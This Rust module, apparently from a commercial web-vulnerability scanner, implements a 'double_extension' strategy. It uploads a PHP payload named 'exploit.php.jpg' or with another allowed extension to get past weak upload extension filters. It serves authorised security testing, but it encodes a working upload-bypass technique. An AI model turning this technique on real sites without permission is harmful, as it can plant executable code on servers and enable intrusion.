// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

use async_trait::async_trait;

use super::common::{php_payload, run_variants, Variant};
use super::{Strategy, StrategyMetadata, StrategyTools, TechRequirements};
use crate::analysis::HypothesisName;
use crate::context::AttackContext;
use crate::errors::TransportError;
use crate::http_client::UploadFile;
use crate::observer::BypassTechnique;
use crate::types::StrategyStatus;

const FALLBACK_EXTENSION: &str = "jpg";

const METADATA: StrategyMetadata = StrategyMetadata {
    name: "double_extension",
    description: "Append an allowed extension after .php",
    targets_hypotheses: &[
        HypothesisName::WeakExtensionCheck,
        HypothesisName::BlacklistFilter,
        HypothesisName::ExtensionValidationActive,
    ],
    tech_requirements: TechRequirements {
        language: None,
        version_min: None,
        version_max: None,
    },
    confidence_gain: Some(0.7),
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct DoubleExtension;

impl DoubleExtension {
    /// First extension the target is known to accept, other than PHP.
    fn allowed_extension(context: &AttackContext) -> String {
        context
            .capabilities()
            .allowed_extensions
            .iter()
            .find(|ext| !ext.starts_with("php"))
            .cloned()
            .unwrap_or_else(|| FALLBACK_EXTENSION.to_string())
    }
}

#[async_trait]
impl Strategy for DoubleExtension {
    fn metadata(&self) -> &'static StrategyMetadata {
        &METADATA
    }

    async fn execute(
        &self,
        context: &mut AttackContext,
        tools: &mut StrategyTools<'_>,
    ) -> Result<StrategyStatus, TransportError> {
        let ext = Self::allowed_extension(context);
        let file = UploadFile::new(format!("exploit.php.{}", ext), php_payload(tools.payload));
        run_variants(
            context,
            tools,
            BypassTechnique::DoubleExtension,
            vec![Variant::new(file)],
        )
        .await
    }
}
